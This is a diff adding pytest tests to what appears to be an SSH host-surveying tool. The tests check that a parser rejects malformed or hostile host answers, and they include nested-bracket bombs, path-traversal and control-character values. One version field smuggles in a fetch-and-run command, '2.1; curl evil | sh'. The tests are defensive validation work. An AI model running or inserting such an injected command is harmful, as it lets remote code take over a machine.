@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import dataclasses
 import json
+import time
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
@@ -274,3 +276,38 @@ def test_where_an_environment_is_made_gpus_are_named() -> None:
 def test_candidates_are_logged_in_to_as_they_say() -> None:
     host = choosing.host(Candidate("a", "me@10.0.0.1:2200"), None)
     assert (host.name, host.ssh, host.user, host.port) == ("a", "10.0.0.1", "me", 2200)
+
+
+def _told(pythons: Sequence[tuple[str, str]] = (), rooms: Sequence[str] = (), free: str = "1") -> str:
+    """An answer of a host; words go into its JSON as they are."""
+    found = ", ".join(f'{{"path": "{path}", "tensorflow": "{version}"}}' for path, version in pythons)
+    room = ", ".join(f'{{"path": "{path}", "free": {free}}}' for path in rooms)
+    return f'{{"pythons": [{found}], "rooms": [{room}]}}'
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "[" * 100_000,
+        '{"pythons": [], "rooms": [], "x": ' + "[" * 100_000,
+        _told(rooms=["~"], free="1" + "0" * 4000),
+        _told(rooms=["~"], free="-1"),
+        _told(rooms=["x", "~x/..", "/etc", "/a/../..", "/" + "x" * 2000, "/a\\n", "/\\u202e"]),
+        _told([("-c", "2.1"), ("x y", "2.1"), ("../x", "2.1"), ("/x/", "2.1"), ("", "2.1")]),
+        _told([("/x", "2.1; curl evil | sh"), ("/x", ""), ("/x", "2" * 100)]),
+        _told([("/x\\u202e", "2"), ("\\u007f", "2"), ("/x\\ud800", "2"), ("/x\\u0000", "2")]),
+    ],
+)
+def test_what_hosts_toml_may_not_say_is_not_believed(answer: str) -> None:
+    assert survey._read(answer.encode()) == survey._Answer((), ())
+
+
+def test_ten_thousand_addresses_of_each_are_compared_at_once() -> None:
+    many = [f"10.{n >> 8}.{n & 255}.7" for n in range(10_000)]
+    machines = {
+        "a": Machine("a", "1", (*(f"11.{n >> 8}.{n & 255}.7" for n in range(9_999)), "192.168.7.1")),
+        "b": Machine("b", "2", (*many, "192.168.7.2")),
+    }
+    began = time.monotonic()
+    assert choose_addresses(machines) == {"a": "192.168.7.1", "b": "192.168.7.2"}
+    assert time.monotonic() - began < 30  # every one with every other: hours
